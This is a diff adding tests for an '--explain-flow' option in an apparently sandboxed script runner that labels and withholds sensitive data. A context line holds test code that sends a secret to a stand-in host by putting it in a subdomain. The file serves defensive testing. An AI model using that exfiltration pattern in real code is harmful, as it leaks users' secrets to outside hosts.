@@ -124,3 +124,33 @@ await fetch("http://" + secret + ".example/").catch(() => {}); console.log(secre
     expect(readFileSync(join(dir, "a.jsonl"), "utf8")).toContain(SECRET);
   });
 });
+
+describe("--explain-flow", () => {
+  const source = `import * as fs from "sbx:fs"; await fs.writeTextFile("out/before", "x"); ${read}
+await fs.writeTextFile("vault/copy", secret); await fs.writeTextFile("out/after", secret).catch(() => {});`;
+  const flags = [...labelled, "--clear=write=./vault:personal", "--explain-flow"];
+  test("tells a person what raised a label, where it went, and where it was kept", () => {
+    const { status, stderr } = run(source, flags);
+    expect(status).toBe(0);
+    expect(stderr).toBe(`flow:
+  read   ${dir}/private/secret.txt  raised personal
+  sent   write ${dir}/vault/copy  cleared for personal
+  kept   write (withheld: the run carries labels)  not cleared for personal
+`);
+  });
+  test("and a machine, in the report", () => {
+    run(source, [...flags, "--report=r.json", "--quiet"]);
+    expect(JSON.parse(readFileSync(join(dir, "r.json"), "utf8")).flow).toMatchObject({
+      raised: [{ label: "personal", by: `${dir}/private/secret.txt` }],
+      sinks: [
+        { kind: "write", to: `${dir}/vault/copy`, labels: ["personal"], open: true },
+        { kind: "write", open: false },
+      ],
+      dropped: 0,
+    });
+  });
+  test("says when there is nothing to tell", () => {
+    const { stderr } = run('import * as fs from "sbx:fs"; await fs.readTextFile("plain.txt");', flags);
+    expect(stderr).toBe("flow: nothing that it read carries a label\n");
+  });
+});
